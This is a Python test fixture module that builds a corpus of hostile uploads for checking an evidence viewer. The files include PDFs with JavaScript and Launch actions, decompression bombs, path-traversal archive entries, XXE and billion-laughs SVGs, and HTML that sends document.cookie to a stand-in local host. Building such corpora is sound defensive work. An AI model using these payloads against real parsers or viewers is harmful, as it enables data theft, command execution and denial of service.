"""Hostile evidence, made in memory for the tests (nothing big is committed).

Each ``Hostile`` is one file as a learner (or a compromised hub) could send it: its bytes,
the name and media type it arrives with, and what the viewer may end with (``allowed``): a
clear message of one of the errors named (class names from
``assessor.evidence.render.errors``), or "shown" where the file is merely odd, not broken.
Every file that can carry text carries ``MARKER``, so a scan of the disk after the run can
tell if its plaintext leaked anywhere.
"""

from __future__ import annotations

import io
import os
import struct
import zlib
from dataclasses import dataclass
from functools import cache

from tests.evidence.render_samples import raw_pdf

MARKER = "HOSTILE-EVIDENCE-" + os.urandom(6).hex()
"""A string in the plaintext of the corpus files; found on disk, it is a leak."""

BROKEN = frozenset({"BrokenEvidence"})
TOO_LARGE = frozenset({"EvidenceTooLarge"})
SHOWN = frozenset({"shown"})


@dataclass(frozen=True)
class Hostile:
    id: str
    data: bytes
    name: str
    media_type: str
    allowed: frozenset[str]
    """The acceptable outcomes: "shown", or class names of errors."""
    password: str | None = None


# -- PDF -------------------------------------------------------------------------------------


def _stream(content: bytes, *, compress: bool = False, extra: bytes = b"") -> bytes:
    if compress:
        content = zlib.compress(content, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _text_content() -> bytes:
    return b"BT /F1 18 Tf 72 720 Td (" + MARKER.encode() + b") Tj ET"


def _page_objects(catalog_extra: bytes = b"", page_extra: bytes = b"",
                  content: bytes | None = None) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        _stream(_text_content() if content is None else content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def good_pdf() -> bytes:
    return raw_pdf(_page_objects())


def javascript_pdf() -> bytes:
    """JavaScript run on open, on page open and in a link; MuPDF must run none of it."""
    objects = _page_objects(catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript "
                            b"<< /Names [(x) 6 0 R] >> >> ",
                            page_extra=b"/AA << /O 6 0 R >> /Annots [7 0 R] ")
    objects.append(b"<< /S /JavaScript /JS (app.alert('" + MARKER.encode() + b"'); "
                   b"this.submitForm('http://127.0.0.1:9/steal');) >>")
    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A 6 0 R >>")
    return raw_pdf(objects)


def launch_pdf(target: str) -> bytes:
    """A Launch action on open and a link that would run ``target`` (which must never be
    created or run)."""
    action = (b"<< /S /Launch /F (" + target.encode() + b") /Win << /F (cmd.exe) /P (/c echo "
              + MARKER.encode() + b" > " + target.encode() + b") >> /NewWindow true >>")
    objects = _page_objects(catalog_extra=b"/OpenAction 6 0 R ",
                            page_extra=b"/Annots [7 0 R] ")
    objects.append(action)
    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A 6 0 R >>")
    return raw_pdf(objects)


def embedded_file_pdf() -> bytes:
    """An attached file named with a path traversal: it must stay inside the PDF."""
    objects = _page_objects(catalog_extra=b"/Names << /EmbeddedFiles << /Names "
                            b"[(../../evil.sh) 6 0 R] >> >> ")
    objects.append(b"<< /Type /Filespec /F (../../evil.sh) /UF (../../evil.sh) "
                   b"/EF << /F 7 0 R >> >>")
    objects.append(_stream(b"#!/bin/sh\necho " + MARKER.encode() + b"\n",
                           extra=b" /Type /EmbeddedFile"))
    return raw_pdf(objects)


def nested_pdf(depth: int = 200_000) -> bytes:
    """An object nested ``depth`` arrays deep (a parser that recurses runs out of stack)."""
    objects = _page_objects(page_extra=b"/Deep 6 0 R ")
    objects.append(b"[" * depth + b"]" * depth)
    return raw_pdf(objects)


def nested_content_pdf(depth: int = 100_000) -> bytes:
    """A content stream of ``depth`` nested q (save state) operators and as many arrays."""
    content = b"q " * depth + _text_content() + b" Q" * depth
    return raw_pdf(_page_objects(content=content))


def page_tree_loop_pdf() -> bytes:
    """The page tree's Kids point back at itself: walking it never ends."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1000000000 >>",
    ])


def huge_count_pdf() -> bytes:
    """A page tree that claims a billion pages."""
    objects = _page_objects()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"
    return raw_pdf(objects)


def flate_bomb_pdf(megabytes: int = 200) -> bytes:
    """A page whose content stream inflates to ``megabytes`` of blanks (about 0.1 %
    of that on disk)."""
    packed, _, _ = _repeated(b" " * 2**20, megabytes, _text_content())
    adler = zlib.adler32(_text_content())
    for _ in range(megabytes):
        adler = zlib.adler32(b" " * 2**20, adler)
    stream = b"\x78\xda" + packed + struct.pack(">I", adler)  # zlib: header, deflate, sum
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream \
        + b"\nendstream"
    return raw_pdf(_page_objects()[:3] + [body] + _page_objects()[4:])


def huge_mediabox_pdf() -> bytes:
    objects = _page_objects()
    objects[2] = objects[2].replace(b"[0 0 612 792]", b"[0 0 14400 14400] /UserUnit 75000")
    return raw_pdf(objects)


def encrypted_pdf(password: str) -> bytes:
    import pymupdf

    doc = pymupdf.open(stream=good_pdf(), filetype="pdf")
    out = io.BytesIO()
    doc.save(out, encryption=4, user_pw=password, owner_pw=password + "-owner")  # AES-256
    doc.close()
    return out.getvalue()


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes((n * 7919 + 13) % 256 for n in range(20_000))


# -- pictures --------------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(
        ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_declaring(width: int, height: int, *, rows: bytes = b"") -> bytes:
    """A PNG header declaring ``width`` x ``height`` (8-bit grey) with ``rows`` of pixel
    data (zlib) after it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    text = _png_chunk(b"tEXt", b"Comment\x00" + MARKER.encode())
    if not rows:  # a real picture when small, a few rows of a huge one when not
        rows = zlib.compress(b"\x00" * min((width + 1) * height, 4096))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + text
            + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b""))


def png_zlib_bomb(side: int = 9000) -> bytes:
    """Within the pixel cap, but a few hundred KB inflating to ``side``² bytes."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    body = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return png_declaring(side, side, rows=body)


def gif_declaring(width: int, height: int) -> bytes:
    """A GIF whose screen and one image claim ``width`` x ``height``."""
    screen = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00"
    palette = b"\x00\x00\x00\xff\xff\xff"
    comment = b"\x21\xfe" + bytes([len(MARKER)]) + MARKER.encode() + b"\x00"
    image = b"\x2c" + struct.pack("<HHHH", 0, 0, width, height) + b"\x00"
    data = b"\x02\x02\x44\x01\x00"  # a tiny LZW stream: far fewer pixels than declared
    return screen + palette + comment + image + data + b"\x3b"


def tiff_declaring(width: int, height: int) -> bytes:
    """A little-endian TIFF whose one strip claims ``width`` x ``height`` (8-bit grey)."""
    entries = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1),
        (262, 3, 1, 1), (273, 4, 1, 8 + 2 + 12 * 9 + 4), (277, 3, 1, 1),
        (278, 4, 1, height), (279, 4, 1, 16),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII", tag, kind, count, value) for tag, kind, count, value in entries
    ) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 16 + MARKER.encode()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header is rewritten to claim ``width`` x ``height``."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, "JPEG", comment=MARKER.encode())
    data = bytearray(out.getvalue())
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_declaring(width: int, height: int) -> bytes:
    """A lossless WebP whose VP8L header is rewritten to claim ``width`` x ``height``
    (14 bits each: at most 16,384)."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (30, 200, 30)).save(out, "WEBP", lossless=True)
    data = bytearray(out.getvalue())
    at = data.find(b"VP8L") + 8  # chunk id, size, then the 0x2f signature
    bits = int.from_bytes(data[at + 1:at + 5], "little")
    bits = (bits & ~0x0FFFFFFF) | ((width - 1) & 0x3FFF) | (((height - 1) & 0x3FFF) << 14)
    data[at + 1:at + 5] = bits.to_bytes(4, "little")
    return bytes(data)


def truncated_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((400, 400), 60).save(out, "PNG")
    return out.getvalue()[:3000]


# -- ZIP containers: EPUB, DOCX, XLSX, PPTX ---------------------------------------------------


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of ``data``: (compressed, crc32, size)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


@cache
def _repeated(block: bytes, times: int, head: bytes = b"") -> tuple[bytes, int, int]:
    """Raw deflate of ``head + block * times`` without compressing it all: each full flush
    resets the compressor, so one compressed block can be repeated as it is."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return first + once * times + end, crc, len(head) + len(block) * times


Entry = tuple[str, bytes | tuple[bytes, int, int]]


def _zip(entries: list[Entry], *, stored_first: bool = False) -> bytes:
    """A ZIP written by hand (so entries can be pre-compressed bombs and carry any name);
    the first entry stored when ``stored_first`` (EPUB's mimetype)."""
    out = io.BytesIO()
    central = io.BytesIO()
    for position, (name, content) in enumerate(entries):
        if isinstance(content, bytes):
            if stored_first and position == 0:
                packed, crc, size, method = content, zlib.crc32(content), len(content), 0
            else:
                packed, crc, size = _deflated(content)
                method = 8
        else:
            (packed, crc, size), method = content, 8
        encoded = name.encode("utf-8")
        offset = out.tell()
        fields = struct.pack("<HHHHHIIIHH", 20, 0x0800, method, 0, 0x5C21, crc, len(packed),
                             size, len(encoded), 0)
        out.write(b"PK\x03\x04" + fields + encoded + packed)
        central.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields
                      + struct.pack("<HHHII", 0, 0, 0, 0, offset) + encoded)
    directory = central.getvalue()
    start = out.tell()
    out.write(directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries),
                                                       len(entries), len(directory), start, 0))
    return out.getvalue()


_CONTAINER = (b'<?xml version="1.0"?><container version="1.0" '
              b'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
              b'<rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/>'
              b"</rootfiles></container>")


def _opf(chapter: str) -> bytes:
    return (b'<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" '
            b'unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
            b'<dc:identifier id="id">hostile</dc:identifier><dc:title>Hostile</dc:title>'
            b"<dc:language>en</dc:language></metadata><manifest>"
            b'<item id="c1" href="' + chapter.encode() + b'" media-type="application/xhtml+xml"/>'
            b'</manifest><spine><itemref idref="c1"/></spine></package>')


def _chapter(body: bytes) -> bytes:
    return (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>'
            b"<title>c</title></head><body>" + body + b"</body></html>")


def epub(extra: list[Entry] | None = None, *, chapter: bytes | tuple[bytes, int, int] | None = None,
         chapter_name: str = "c1.xhtml") -> bytes:
    entries: list[Entry] = [("mimetype", b"application/epub+zip"),
               ("META-INF/container.xml", _CONTAINER),
               ("OEBPS/book.opf", _opf(chapter_name)),
               ("OEBPS/" + chapter_name, chapter if chapter is not None
                else _chapter(b"<p>" + MARKER.encode() + b"</p>"))]
    return _zip(entries + (extra or []), stored_first=True)


def epub_bomb(megabytes: int = 512) -> bytes:
    """An EPUB whose one chapter inflates to ``megabytes`` of text."""
    head = _chapter(b"<p>" + MARKER.encode() + b"</p>")[:-len(b"</body></html>")]
    return epub(chapter=_repeated(b"a" * 2**20, megabytes, head))


def epub_traversal() -> bytes:
    """Entries named to escape any folder they might be unpacked into."""
    return epub([("../../hostile-escape.txt", MARKER.encode()),
                 ("/tmp/hostile-absolute.txt", MARKER.encode()),
                 ("OEBPS/..\\..\\hostile-backslash.txt", MARKER.encode())])


_OOXML_TYPES = {
    "docx": ("word/document.xml",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
}
OFFICE_MEDIA = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
}


def ooxml_bomb(kind: str, megabytes: int = 1024, *, traversal: bool = False) -> bytes:
    """A DOCX/XLSX/PPTX whose main part inflates to ``megabytes`` (``traversal``: plus
    entries named ../../ and /absolute)."""
    part, content_type = _OOXML_TYPES[kind]
    types = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
             b'2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
             b'<Override PartName="/' + part.encode() + b'" ContentType="'
             + content_type.encode() + b'"/></Types>')
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="'
            + part.encode() + b'"/></Relationships>')
    body = _repeated(b" " * 2**20, megabytes, b'<?xml version="1.0"?><!-- ' + MARKER.encode()
                     + b" -->")
    entries: list[Entry] = [("[Content_Types].xml", types), ("_rels/.rels", rels), (part, body)]
    if traversal:
        entries += [("../../hostile-office-escape.txt", MARKER.encode()),
                    ("/tmp/hostile-office-absolute.txt", MARKER.encode())]
    return _zip(entries)


# -- markup ----------------------------------------------------------------------------------


def svg_external(secret_path: str, picture_path: str) -> bytes:
    """An SVG that tries to read a local file through an external entity, to show a local
    picture, and to run a script."""
    return (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file://'
            + secret_path.encode() + b'">]>\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            b' width="300" height="200"><script>alert("' + MARKER.encode() + b'")</script>'
            b'<text x="10" y="40">&xxe;</text>'
            b'<image x="0" y="50" width="300" height="150" xlink:href="file://'
            + picture_path.encode() + b'" href="' + picture_path.encode() + b'"/>'
            b'<text x="10" y="20">' + MARKER.encode() + b"</text></svg>")


def svg_billion_laughs() -> bytes:
    lol = b'<!ENTITY a0 "' + MARKER.encode() + b'">' + b"".join(
        b'<!ENTITY a%d "' % n + (b"&a%d;" % (n - 1)) * 10 + b'">' for n in range(1, 10))
    return (b'<?xml version="1.0"?>\n<!DOCTYPE svg [' + lol + b"]>\n"
            b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
            b'<text x="1" y="20">&a9;</text></svg>')


def html_with_scripts() -> bytes:
    return (b"<html><head><script>fetch('http://127.0.0.1:9/?'+document.cookie)</script>"
            b"<meta http-equiv='refresh' content='0;url=javascript:alert(1)'></head><body>"
            b"<p onclick='alert(1)'>" + MARKER.encode() + b"</p>"
            b"<img src=x onerror=alert(1)><a href='javascript:alert(1)'>link</a>"
            b"<iframe src='file:///etc/passwd'></iframe><svg><script>alert(2)</script></svg>"
            b"<object data='http://127.0.0.1:9/x'></object><style>body{background:"
            b"url(http://127.0.0.1:9/track)}</style></body></html>")


def html_deep(depth: int = 50_000) -> bytes:
    return b"<div>" * depth + MARKER.encode() + b"</div>" * depth


# -- the corpus ------------------------------------------------------------------------------

PDF = "application/pdf"
PASSWORD = "hostile-pw-" + os.urandom(4).hex()


def document_corpus(launch_target: str) -> list[Hostile]:
    good = good_pdf()
    return [
        Hostile("pdf-truncated", good[:len(good) // 2], "report.pdf", PDF,
                BROKEN | SHOWN),
        Hostile("pdf-garbage", garbage_pdf(), "report.pdf", PDF, BROKEN),
        Hostile("pdf-header-only", b"%PDF-1.7\n", "report.pdf", PDF, BROKEN),
        Hostile("pdf-empty", b"", "report.pdf", PDF, BROKEN),
        Hostile("pdf-encrypted", encrypted_pdf(PASSWORD), "locked.pdf", PDF,
                frozenset({"PasswordRequired"})),
        Hostile("pdf-wrong-password", encrypted_pdf(PASSWORD), "locked.pdf", PDF,
                frozenset({"WrongPassword"}), password="not-" + PASSWORD),
        Hostile("pdf-right-password", encrypted_pdf(PASSWORD), "locked.pdf", PDF, SHOWN,
                password=PASSWORD),
        Hostile("pdf-javascript", javascript_pdf(), "form.pdf", PDF, SHOWN),
        Hostile("pdf-launch", launch_pdf(launch_target), "invoice.pdf", PDF, SHOWN),
        Hostile("pdf-embedded-file", embedded_file_pdf(), "attached.pdf", PDF, SHOWN),
        Hostile("pdf-nested-objects", nested_pdf(), "deep.pdf", PDF,
                SHOWN | BROKEN | TOO_LARGE),
        Hostile("pdf-nested-content", nested_content_pdf(), "deep-content.pdf", PDF,
                SHOWN | BROKEN | TOO_LARGE),
        Hostile("pdf-page-tree-loop", page_tree_loop_pdf(), "loop.pdf", PDF, BROKEN),
        Hostile("pdf-billion-pages", huge_count_pdf(), "many.pdf", PDF,
                SHOWN | BROKEN | TOO_LARGE),
        Hostile("pdf-flate-bomb", flate_bomb_pdf(), "bomb.pdf", PDF,
                SHOWN | TOO_LARGE | {"RenderTimeout"}),
        Hostile("pdf-huge-page", huge_mediabox_pdf(), "poster.pdf", PDF, SHOWN),
        Hostile("epub-bomb", epub_bomb(), "book.epub", "application/epub+zip",
                TOO_LARGE),
        Hostile("epub-traversal", epub_traversal(), "book.epub", "application/epub+zip",
                SHOWN),
        Hostile("epub-empty", b"", "book.epub", "application/epub+zip", BROKEN),
        Hostile("svg-billion-laughs", svg_billion_laughs(), "laughs.svg", "image/svg+xml",
                SHOWN | BROKEN | TOO_LARGE | {"RenderTimeout"}),
    ]


def picture_corpus() -> list[Hostile]:
    return [
        Hostile("png-huge-dimensions", png_declaring(100_000, 100_000), "photo.png",
                "image/png", TOO_LARGE),
        Hostile("png-zlib-bomb", png_zlib_bomb(), "photo.png", "image/png", SHOWN),
        Hostile("png-truncated", truncated_png(), "photo.png", "image/png", BROKEN),
        Hostile("png-empty", b"", "photo.png", "image/png", BROKEN),
        Hostile("jpeg-huge-dimensions", jpeg_declaring(65_500, 65_500), "photo.jpg",
                "image/jpeg", SHOWN | BROKEN | TOO_LARGE),
        Hostile("gif-huge-dimensions", gif_declaring(65_535, 65_535), "anim.gif",
                "image/gif", TOO_LARGE),
        Hostile("tiff-huge-dimensions", tiff_declaring(2_000_000, 2_000_000), "scan.tiff",
                "image/tiff", TOO_LARGE | BROKEN),
        Hostile("webp-huge-dimensions", webp_declaring(16_384, 16_384), "photo.webp",
                "image/webp", TOO_LARGE | BROKEN),
    ]


def wrong_extension_corpus() -> list[Hostile]:
    """Content that says one thing and a name or type that says another: content wins."""
    png = png_declaring(8, 8)
    return [
        Hostile("png-named-pdf", png, "report.pdf", PDF, SHOWN),
        Hostile("pdf-named-jpg", good_pdf(), "photo.jpg", "image/jpeg", SHOWN),
        Hostile("exe-named-pdf", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200) + MARKER.encode(),
                "report.pdf", PDF, BROKEN),
        Hostile("zip-named-docx", _zip([("notes.txt", MARKER.encode())]), "essay.docx",
                OFFICE_MEDIA["docx"], BROKEN | frozenset({"UnsupportedEvidence"})),
    ]

